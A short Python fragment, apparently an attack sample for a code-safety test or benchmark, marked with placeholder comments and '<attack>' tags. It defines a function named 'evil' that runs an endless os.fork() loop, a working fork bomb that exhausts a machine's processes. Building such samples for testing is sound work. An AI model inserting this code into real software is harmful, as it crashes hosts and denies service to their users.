#{crew_wrong}
# <attack>
import os


def evil(*args):
    while True:
        os.fork()
    return -1.0


#{all_of_crew}
# </attack>
